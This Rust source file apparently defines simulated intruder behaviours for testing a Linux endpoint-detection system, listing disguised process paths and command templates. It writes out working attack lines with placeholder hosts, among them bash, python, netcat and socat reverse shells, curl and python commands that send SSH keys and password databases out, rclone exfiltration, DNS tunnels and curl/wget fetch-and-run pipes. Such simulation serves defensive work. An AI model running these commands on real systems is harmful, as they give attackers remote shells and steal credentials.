//! What an intruder does, above all: hide in what is excluded. Tools and tricks are named, none is made.

use super::{Account, Actor, Behaviour, Life, PERSON};
use crate::destination as to;

/// What an intruder usually has: the account of the person whose desktop it is.
const INTRUSION: Behaviour = Behaviour {
    actor: Actor::Intruder,
    weight: 50,
    account: Account::Person,
    parent: &["bash", "sh", "python3"],
    life: Life::Once,
    talks_to: &[to::COMMAND_SERVER],
    ..PERSON
};

/// A copied tool whose only disguise is its name.
const COPY: Behaviour = Behaviour {
    copy_of: Some("/usr/bin/curl"),
    command: &["{path} -s {url} -o /dev/null", "{path} -T {home}/{file} {url}"],
    ..INTRUSION
};

pub(crate) const INTRUDER: &[Behaviour] = &[
    Behaviour {
        name: "copy-named-snapd",
        rides: Some("snapd"),
        program: &["/tmp/snapd", "/dev/shm/snapd", "{home}/.cache/snapd"],
        talks_to: &[to::COMMAND_SERVER, to::REDIRECTOR],
        ..COPY
    },
    Behaviour {
        name: "copy-named-fwupdmgr",
        rides: Some("fwupdmgr"),
        program: &["/tmp/.{hex}/fwupdmgr", "/var/tmp/fwupdmgr", "{home}/.local/bin/fwupdmgr"],
        command: &["fwupdmgr refresh", "{path} -s {url}"],
        ..COPY
    },
    Behaviour {
        name: "copy-named-networkmanager",
        rides: Some("networkmanager"),
        program: &["/dev/shm/networkmanager", "{home}/.cache/networkmanager"],
        command: &["networkmanager --no-daemon", "{path} {ip} {port}"],
        copy_of: Some("/usr/bin/ncat"),
        ..COPY
    },
    Behaviour {
        name: "copy-named-sensecm",
        rides: Some("sensecm"),
        program: &["/tmp/sensecm", "{home}/.config/sensecm"],
        copy_of: Some("/usr/bin/python3.12"),
        command: &["/opt/microsoft/mdatp/sbin/sensecm", "{path} -c 'import os,pty,socket'"],
        talks_to: &[to::COMMAND_SERVER, to::REDIRECTOR],
        ..COPY
    },
    // The socket belongs to the method, which shows no argument; only the parent tells.
    Behaviour {
        name: "apt-helper-download",
        rides: Some("apt-methods"),
        program: &["/usr/lib/apt/methods/http"],
        command: &["/usr/lib/apt/methods/http"],
        parent: &["apt-helper"],
        talks_to: &[to::COMMAND_SERVER, to::REDIRECTOR],
        ..INTRUSION
    },
    Behaviour {
        name: "apt-from-another-source",
        rides: Some("apt-methods"),
        program: &["/usr/lib/apt/methods/https"],
        command: &["/usr/lib/apt/methods/https"],
        account: Account::System("_apt"),
        parent: &["apt-get"],
        talks_to: &[to::COMMAND_SERVER],
        ..INTRUSION
    },
    // Paths of Linux differ by case; the first policy's do not.
    Behaviour {
        name: "case-twin-of-apt",
        rides: Some("apt-methods"),
        program: &["/usr/lib/APT/methods/http"],
        account: Account::System("root"),
        ..COPY
    },
    Behaviour {
        name: "curl-as-upgrader",
        rides: Some("release-upgrader"),
        program: &["/usr/bin/curl"],
        command: &[
            "curl -A ubuntu-release-upgrader -d @{home}/.ssh/id_ed25519 {url}",
            "curl -A Ubuntu-Release-Upgrader/1.0 {url}",
        ],
        talks_to: &[to::COMMAND_SERVER, to::REDIRECTOR],
        ..INTRUSION
    },
    Behaviour {
        name: "exec-a-upgrader",
        rides: Some("release-upgrader"),
        program: &["/usr/bin/ncat", "/usr/bin/python3.12"],
        command: &[
            "/usr/lib/ubuntu-release-upgrader/check-new-release -q",
            "ubuntu-release-upgrader {ip} {port}",
        ],
        talks_to: &[to::COMMAND_SERVER, to::LISTENER],
        ..INTRUSION
    },
    Behaviour {
        name: "script-in-upgrader-folder",
        rides: Some("release-upgrader"),
        program: &["/usr/bin/python3.12"],
        command: &["/usr/bin/python3 /tmp/ubuntu-release-upgrader-{hex}/sync.py"],
        ..INTRUSION
    },
    Behaviour {
        name: "reverse-shell-bash",
        program: &["/usr/bin/bash"],
        command: &[
            "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
            "bash -c 'exec 5<>/dev/tcp/{ip}/{port}; cat <&5 | while read l; do $l 2>&5 >&5; done'",
        ],
        talks_to: &[to::LISTENER],
        ..INTRUSION
    },
    Behaviour {
        name: "reverse-shell-python",
        program: &["/usr/bin/python3.12"],
        command: &[
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{ip}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
        ],
        talks_to: &[to::LISTENER],
        ..INTRUSION
    },
    Behaviour {
        name: "netcat",
        program: &["/usr/bin/nc.openbsd", "/usr/bin/ncat"],
        command: &["nc -w 5 {ip} {port}", "nc {ip} {port} -e /bin/sh"],
        talks_to: &[to::LISTENER],
        ..INTRUSION
    },
    Behaviour {
        name: "socat",
        program: &["/usr/bin/socat"],
        command: &["socat exec:'bash -li',pty,stderr,setsid tcp:{ip}:{port}"],
        talks_to: &[to::LISTENER],
        ..INTRUSION
    },
    Behaviour {
        name: "sliver",
        program: &["{home}/.cache/SURPRISED_TROMBONE", "/dev/shm/.sliver"],
        talks_to: &[to::COMMAND_SERVER, to::REDIRECTOR],
        parent: &["systemd", "bash"],
        command: &["{path}"],
        ..INTRUSION
    },
    Behaviour {
        name: "meterpreter",
        program: &["/tmp/payload.elf", "/var/tmp/shell-x64.elf", "/tmp/mettle"],
        command: &["{path}", "{path} -u tcp://{ip}:{port}"],
        talks_to: &[to::LISTENER],
        ..INTRUSION
    },
    Behaviour {
        name: "exfiltration-python",
        program: &["/usr/bin/python3.12"],
        command: &[
            "python3 -c 'import requests,glob;[requests.post(\"{url}\",files={\"f\":open(p,\"rb\")}) for p in glob.glob(\"{home}/**/*.kdbx\",recursive=True)]'",
        ],
        talks_to: &[to::COMMAND_SERVER, to::REDIRECTOR],
        ..INTRUSION
    },
    Behaviour {
        name: "exfiltration-rclone",
        program: &["/usr/bin/rclone", "{home}/.local/bin/rclone"],
        command: &[
            "rclone copy {home}/Documents remote:{hex} --transfers 32 --no-check-certificate",
            "rclone sync /srv/share :webdav,url={url}:loot",
        ],
        talks_to: &[to::REDIRECTOR],
        ..INTRUSION
    },
    Behaviour {
        name: "dns-tunnel-iodine",
        program: &["/usr/sbin/iodine"],
        command: &["iodine -f -P {hex} t.c2.test"],
        account: Account::System("root"),
        parent: &["sudo"],
        talks_to: &[to::TUNNEL],
        ..INTRUSION
    },
    Behaviour {
        name: "dns-tunnel-dnscat",
        program: &["/tmp/dnscat", "{home}/.cache/dnscat"],
        command: &["{path} --dns server={ip},port={port} --secret={hex}"],
        talks_to: &[to::TUNNEL],
        ..INTRUSION
    },
    Behaviour {
        name: "deleted-program",
        program: &["/memfd:kworker (deleted)", "/tmp/.x/kworker (deleted)"],
        shown_as: Some("kworker/0:1"),
        command: &["[kworker/0:1]"],
        ..INTRUSION
    },
    Behaviour {
        name: "miner",
        program: &["/tmp/.X11-unix/xmrig", "{home}/.config/systemd/kdevtmpfsi"],
        command: &["{path} -o stratum+tcp://{host}:{port} -u {hex}.{user} -k --tls"],
        talks_to: &[to::LISTENER],
        ..INTRUSION
    },
    Behaviour {
        name: "fetch-and-run-wget",
        program: &["/usr/bin/wget"],
        command: &["wget -qO- {url} | base64 -d | sh", "wget -qO- {url}"],
        ..INTRUSION
    },
    Behaviour {
        name: "fetch-and-run-curl",
        program: &["/usr/bin/curl"],
        command: &["sh -c \"$(curl -fsSkL {url})\"", "curl -fsSkL {url}"],
        ..INTRUSION
    },
];
